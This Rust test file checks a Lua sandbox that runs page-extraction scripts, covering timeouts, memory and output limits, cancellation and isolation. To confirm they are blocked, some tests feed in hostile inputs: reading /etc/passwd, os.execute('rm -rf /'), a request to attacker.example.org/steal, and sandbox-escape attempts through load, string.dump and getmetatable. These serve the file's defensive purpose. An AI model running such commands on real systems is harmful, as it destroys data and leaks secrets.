use std::time::{Duration, Instant};

use tokio_util::sync::CancellationToken;
use trendsmith_config::{Capability, SandboxPolicy};
use trendsmith_sandbox::{
  CodeCandidate, Document, ExecutionStatus, Isolation, Sandbox, WorkerCommand,
};
use url::Url;

const PAGE: &str = r#"<html lang="en">
<head>
  <title>X wins the final</title>
  <meta name="description" content="A short recap.">
  <meta property="og:title" content="X wins">
</head>
<body>
  <main>
    <h1 class="headline">  X   wins </h1>
    <span class="author">Jane Doe</span>
    <ul class="tags"><li>sports</li><li>finals</li></ul>
    <a href="/more" class="more">More</a>
  </main>
</body>
</html>"#;

fn document() -> Document {
  Document::new(Url::parse("https://example.com/x").unwrap(), PAGE)
}

fn policy() -> SandboxPolicy {
  SandboxPolicy {
    max_duration_ms: 500,
    cancel_grace_ms: 300,
    ..SandboxPolicy::default()
  }
}

const WORKER: &str = env!("CARGO_BIN_EXE_trendsmith-sandbox-worker");

fn sandbox(policy: SandboxPolicy) -> Sandbox {
  Sandbox::new(policy).with_isolation(Isolation::Process(WorkerCommand::new(WORKER)))
}

async fn run(source: &str, policy: SandboxPolicy) -> trendsmith_sandbox::ExecutionResult {
  sandbox(policy)
    .execute(
      &CodeCandidate::lua(source),
      &document(),
      &CancellationToken::new(),
    )
    .await
    .unwrap()
}

#[tokio::test]
async fn extract_function_reads_document() {
  let result = run(
    r#"
    function extract(doc)
      local h1 = doc:select_one("h1.headline")
      local tags = {}
      for _, li in ipairs(doc:select("ul.tags li")) do
        table.insert(tags, li.text)
      end
      return {
        headline = h1.text,
        author = doc:select_one(".author"),
        description = doc:meta("description"),
        og_title = doc:meta("og:title"),
        tags = tags,
        link = doc:select_one("a.more").attrs.href,
        source_url = doc.url,
      }
    end
    "#,
    policy(),
  )
  .await;

  assert_eq!(result.status, ExecutionStatus::Ok, "{:?}", result.diagnostic);
  let fields = &result.extracted_fields;
  assert_eq!(fields["headline"], "X wins");
  assert_eq!(fields["author"], "Jane Doe");
  assert_eq!(fields["description"], "A short recap.");
  assert_eq!(fields["og_title"], "X wins");
  assert_eq!(fields["tags"], "sports, finals");
  assert_eq!(fields["link"], "/more");
  assert_eq!(fields["source_url"], "https://example.com/x");
  assert!(!result.nondeterministic);
}

#[tokio::test]
async fn chunk_may_return_table_directly() {
  let result = run(
    r#"return { headline = doc:select_one("h1").text, count = 3, live = false }"#,
    policy(),
  )
  .await;

  assert_eq!(result.status, ExecutionStatus::Ok);
  assert_eq!(result.extracted_fields["headline"], "X wins");
  assert_eq!(result.extracted_fields["count"], "3");
  assert_eq!(result.extracted_fields["live"], "false");
}

#[tokio::test]
async fn infinite_loop_times_out_within_hard_deadline() {
  let policy = policy();
  let bound = policy.hard_deadline() + Duration::from_millis(250);

  let started = Instant::now();
  let result = run("while true do end", policy).await;

  assert_eq!(result.status, ExecutionStatus::Timeout);
  assert!(started.elapsed() < bound, "took {:?}", started.elapsed());
  assert!(result.extracted_fields.is_empty());
}

#[tokio::test]
async fn pcall_cannot_swallow_the_deadline() {
  let result = run(
    r#"
    while true do
      pcall(function() while true do end end)
    end
    "#,
    policy(),
  )
  .await;
  assert_eq!(result.status, ExecutionStatus::Timeout);
}

#[tokio::test]
async fn filesystem_access_is_blocked() {
  let result = run(r#"return { data = io.open("/etc/passwd"):read("a") }"#, policy()).await;
  assert_eq!(result.status, ExecutionStatus::BlockedOperation);
  assert!(result.diagnostic.unwrap().contains("io.open"));
}

#[tokio::test]
async fn caught_violation_is_still_reported() {
  let result = run(
    r#"
    local ok = pcall(function() return os.execute("rm -rf /") end)
    return { headline = "fine", ok = tostring(ok) }
    "#,
    policy(),
  )
  .await;

  assert_eq!(result.status, ExecutionStatus::BlockedOperation);
  assert!(result.extracted_fields.is_empty());
}

#[tokio::test]
async fn dynamic_code_loading_is_blocked() {
  for source in [
    r#"return load("return 1")()"#,
    r#"return require("socket")"#,
    r#"return { x = string.dump(function() end) }"#,
    r#"return { x = collectgarbage("count") }"#,
  ] {
    let result = run(source, policy()).await;
    assert_eq!(result.status, ExecutionStatus::BlockedOperation, "{}", source);
  }
}

#[tokio::test]
async fn ungranted_capabilities_are_blocked() {
  let mut policy = policy();
  policy.allowed_capabilities = [Capability::DocumentRead].into_iter().collect();

  let printed = run(r#"print("hi") return {}"#, policy.clone()).await;
  assert_eq!(printed.status, ExecutionStatus::BlockedOperation);

  let random = run(r#"return { n = math.random(10) }"#, policy.clone()).await;
  assert_eq!(random.status, ExecutionStatus::BlockedOperation);

  let network = run(r#"return { b = http.get("https://example.com/").body }"#, policy).await;
  assert_eq!(network.status, ExecutionStatus::BlockedOperation);
}

#[tokio::test]
async fn network_is_limited_to_document_host() {
  let mut policy = policy();
  policy.allowed_capabilities.insert(Capability::NetworkRead);

  let result = run(
    r#"return { b = http.get("https://attacker.example.org/steal").body }"#,
    policy,
  )
  .await;
  assert_eq!(result.status, ExecutionStatus::BlockedOperation);
}

#[tokio::test]
async fn memory_ceiling_yields_resource_exceeded() {
  let policy = SandboxPolicy {
    max_memory_bytes: 2 * 1024 * 1024,
    max_duration_ms: 5_000,
    ..policy()
  };
  let result = run(
    r#"
    local t = {}
    for i = 1, 10000000 do t[i] = string.rep("x", 64) .. i end
    return {}
    "#,
    policy,
  )
  .await;
  assert_eq!(result.status, ExecutionStatus::ResourceExceeded);
}

#[tokio::test]
async fn pcall_cannot_swallow_memory_exhaustion() {
  let policy = SandboxPolicy {
    max_memory_bytes: 4 * 1024 * 1024,
    max_duration_ms: 5_000,
    ..policy()
  };
  for source in [
    r#"local ok, e = pcall(string.rep, "x", 100000000) return { ok = tostring(ok), e = tostring(e) }"#,
    r#"local ok = xpcall(string.rep, function(m) return m end, "x", 100000000) return { ok = tostring(ok) }"#,
  ] {
    let result = run(source, policy.clone()).await;
    assert_eq!(result.status, ExecutionStatus::ResourceExceeded, "{}", source);
    assert!(result.extracted_fields.is_empty());
  }
}

#[tokio::test]
async fn pcall_still_catches_ordinary_errors() {
  let result = run(
    r#"
    local ok, e = pcall(function() error("boom", 0) end)
    local handled_ok, handled = xpcall(function() error("bad", 0) end, function(m) return "handled " .. m end)
    local fine, a, b = pcall(function() return 1, 2 end)
    return {
      ok = tostring(ok), e = e,
      handled_ok = tostring(handled_ok), handled = handled,
      fine = tostring(fine), sum = a + b,
    }
    "#,
    policy(),
  )
  .await;

  assert_eq!(result.status, ExecutionStatus::Ok, "{:?}", result.diagnostic);
  let fields = &result.extracted_fields;
  assert_eq!(fields["ok"], "false");
  assert_eq!(fields["e"], "boom");
  assert_eq!(fields["handled_ok"], "false");
  assert_eq!(fields["handled"], "handled bad");
  assert_eq!(fields["fine"], "true");
  assert_eq!(fields["sum"], "3");
}

#[tokio::test]
async fn extracted_fields_are_capped_with_flag() {
  let policy = SandboxPolicy {
    max_output_bytes: 1024,
    ..policy()
  };
  let result = run(r#"return { big = string.rep("x", 200000), note = "kept" }"#, policy).await;

  assert_eq!(result.status, ExecutionStatus::Ok, "{:?}", result.diagnostic);
  assert!(result.output_truncated);
  let total: usize = result
    .extracted_fields
    .iter()
    .map(|(k, v)| k.len() + v.len())
    .sum();
  assert!(total <= 1024, "{} bytes", total);
  assert!(result.extracted_fields["big"].starts_with("xxxx"));
  assert!(!result.extracted_fields.contains_key("note"));
}

#[tokio::test]
async fn string_metatable_is_out_of_reach() {
  let result = run(
    r#"local f = getmetatable("").__index["du" .. "mp"] return { f = tostring(f) }"#,
    policy(),
  )
  .await;
  assert_eq!(result.status, ExecutionStatus::BlockedOperation);
  assert!(result.diagnostic.unwrap().contains("getmetatable"));
}

/// A backtracking `string.find` never yields to the instruction hook, so only
/// killing the worker ends it.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn stuck_worker_is_killed_at_hard_deadline() {
  let dir = tempfile::tempdir().unwrap();
  let pid_file = dir.path().join("worker.pid");
  let command = WorkerCommand::new("sh")
    .arg("-c")
    .arg(format!("echo $$ > '{}'; exec '{}'", pid_file.display(), WORKER));

  let policy = SandboxPolicy {
    max_duration_ms: 200,
    cancel_grace_ms: 100,
    ..SandboxPolicy::default()
  };
  let started = Instant::now();
  let result = Sandbox::new(policy)
    .with_isolation(Isolation::Process(command))
    .execute(
      &CodeCandidate::lua(
        r#"local s = string.rep("a", 200000) return { m = tostring(s:find(".-.-.-.-b")) }"#,
      ),
      &document(),
      &CancellationToken::new(),
    )
    .await
    .unwrap();

  assert_eq!(result.status, ExecutionStatus::Timeout);
  assert!(started.elapsed() < Duration::from_secs(2), "took {:?}", started.elapsed());

  let pid = std::fs::read_to_string(&pid_file).unwrap();
  let proc_entry = format!("/proc/{}", pid.trim());
  assert!(
    !std::path::Path::new(&proc_entry).exists(),
    "worker {} still running",
    pid.trim()
  );
}

#[tokio::test]
async fn in_process_isolation_runs_candidates() {
  let result = Sandbox::new(policy())
    .with_isolation(Isolation::InProcess)
    .execute(
      &CodeCandidate::lua(r#"return { headline = doc:select_one("h1").text }"#),
      &document(),
      &CancellationToken::new(),
    )
    .await
    .unwrap();
  assert_eq!(result.status, ExecutionStatus::Ok);
  assert_eq!(result.extracted_fields["headline"], "X wins");
}

#[tokio::test]
async fn missing_worker_binary_is_runtime_error() {
  let result = Sandbox::new(policy())
    .with_isolation(Isolation::Process(WorkerCommand::new(
      "/nonexistent/trendsmith-sandbox-worker",
    )))
    .execute(
      &CodeCandidate::lua("return {}"),
      &document(),
      &CancellationToken::new(),
    )
    .await
    .unwrap();
  assert_eq!(result.status, ExecutionStatus::RuntimeError);
  assert!(result.describe().contains("failed to start sandbox worker"));
}

#[tokio::test]
async fn output_is_truncated_with_flag() {
  let policy = SandboxPolicy {
    max_output_bytes: 32,
    ..policy()
  };
  let result = run(
    r#"for i = 1, 100 do print("line", i) end return { done = "yes" }"#,
    policy,
  )
  .await;

  assert_eq!(result.status, ExecutionStatus::Ok);
  assert!(result.output_truncated);
  assert_eq!(result.stdout_excerpt.len(), 32);
  assert!(result.stdout_excerpt.starts_with("line\t1\n"));
}

#[tokio::test]
async fn invalid_selector_is_runtime_error() {
  let result = run(r#"return { x = doc:select_one("h1[[[").text }"#, policy()).await;
  assert_eq!(result.status, ExecutionStatus::RuntimeError);
  assert!(result.diagnostic.unwrap().contains("invalid selector"));
}

#[tokio::test]
async fn syntax_error_is_runtime_error() {
  let result = run("return {", policy()).await;
  assert_eq!(result.status, ExecutionStatus::RuntimeError);
  assert!(result.diagnostic.is_some());
}

#[tokio::test]
async fn missing_entry_point_is_runtime_error() {
  let result = run("local x = 1", policy()).await;
  assert_eq!(result.status, ExecutionStatus::RuntimeError);
}

#[tokio::test]
async fn identical_inputs_give_identical_fields() {
  let source = r#"return { headline = doc:select_one("h1").text, n = #doc:select("li") }"#;
  let first = run(source, policy()).await;
  let second = run(source, policy()).await;
  assert_eq!(first.extracted_fields, second.extracted_fields);
}

#[tokio::test]
async fn random_reads_are_flagged_not_rejected() {
  let mut policy = policy();
  policy.allowed_capabilities.insert(Capability::Random);
  let result = run(r#"return { n = math.random(1, 6) }"#, policy).await;
  assert_eq!(result.status, ExecutionStatus::Ok);
  assert!(result.nondeterministic);
}

#[tokio::test]
async fn executions_do_not_share_globals() {
  let sandbox = sandbox(policy());
  let cancel = CancellationToken::new();
  let doc = document();

  let first = sandbox
    .execute(
      &CodeCandidate::lua("leaked = 'yes' return {}"),
      &doc,
      &cancel,
    )
    .await
    .unwrap();
  assert_eq!(first.status, ExecutionStatus::Ok);

  let second = sandbox
    .execute(
      &CodeCandidate::lua("return { seen = tostring(leaked) }"),
      &doc,
      &cancel,
    )
    .await
    .unwrap();
  assert_eq!(second.extracted_fields["seen"], "nil");
}

#[tokio::test]
async fn cancellation_stops_a_running_candidate() {
  let policy = SandboxPolicy {
    max_duration_ms: 10_000,
    cancel_grace_ms: 200,
    ..SandboxPolicy::default()
  };
  let sandbox = sandbox(policy);
  let cancel = CancellationToken::new();

  let trigger = cancel.clone();
  tokio::spawn(async move {
    tokio::time::sleep(Duration::from_millis(100)).await;
    trigger.cancel();
  });

  let started = Instant::now();
  let outcome = sandbox
    .execute(&CodeCandidate::lua("while true do end"), &document(), &cancel)
    .await;

  assert!(matches!(outcome, Err(trendsmith_sandbox::SandboxError::Cancelled)));
  assert!(started.elapsed() < Duration::from_secs(2));
}

#[tokio::test]
async fn non_lua_candidate_is_rejected() {
  let mut candidate = CodeCandidate::lua("return {}");
  candidate.language = "python".to_string();
  let result = sandbox(policy())
    .execute(&candidate, &document(), &CancellationToken::new())
    .await
    .unwrap();
  assert_eq!(result.status, ExecutionStatus::RuntimeError);
}
